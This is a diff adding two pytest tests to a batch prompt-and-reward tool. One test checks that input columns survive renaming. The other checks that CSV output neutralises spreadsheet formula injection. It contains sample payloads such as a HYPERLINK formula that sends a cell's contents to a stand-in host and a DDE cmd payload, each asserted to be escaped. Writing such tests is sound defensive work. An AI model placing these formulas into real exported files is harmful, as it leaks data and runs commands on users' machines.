@@ -150,3 +150,44 @@ def test_an_empty_batch_is_an_empty_output(tmp_path: Path) -> None:
     for suffix in SUFFIXES:
         write_output(tmp_path / f"out{suffix}", name="b", database=url)
         assert read(tmp_path / f"out{suffix}") == []
+
+
+def test_no_column_of_the_input_is_lost_to_a_new_name(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'tpo.db'}"
+    rows = [
+        {"prompt": "Q", "response": "first batch", "error": "old"},
+        {"prompt": "R", "response": "other", "input_response": "of a person", "audit": "kept"},
+    ]
+    options: dict[str, Any] = {"model": ScriptedChatModel(), "reward_model": prefer_longer}
+    run_batch(make_rows(rows), name="b", database=url, width=1, depth=0, **options)
+    write_output(tmp_path / "out.jsonl", name="b", database=url)
+    first, second = read(tmp_path / "out.jsonl")
+    assert (first["input_input_response"], first["input_error"]) == ("first batch", "old")
+    assert "input_response" not in first
+    assert (second["input_input_response"], second["input_response"]) == ("other", "of a person")
+    assert second["audit"] == "kept"
+
+
+def test_no_cell_of_a_csv_is_a_formula(tmp_path: Path) -> None:
+    url = f"sqlite:///{tmp_path / 'tpo.db'}"
+    attack = '=HYPERLINK("http://x/?" & A1)'
+    cells = [attack, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\uff1d1"]
+    harmless = ["-2.5", "+3", "1e-3", "a=b", "'=1", ""]
+    rows = [{"prompt": "Q", "x": c, "n": -2.5} for c in [*cells, *harmless]]
+    model = ScriptedChatModel(replies=lambda messages, index: attack)
+    run_batch(
+        make_rows([{**rows[0], attack: 1}, *rows[1:]]),
+        name="b",
+        database=url,
+        model=model,
+        reward_model=prefer_longer,
+        width=1,
+        depth=0,
+    )
+    write_output(tmp_path / "out.csv", name="b", database=url)
+    written = read(tmp_path / "out.csv")
+    assert [row["x"] for row in written] == [*(f"'{c}" for c in cells), *harmless]
+    assert {row["n"] for row in written} == {"-2.5"}  # a number stays one
+    assert written[0]["response"] == f"'{attack}"
+    assert f"'{attack}" in written[0]
+    assert attack not in written[0]
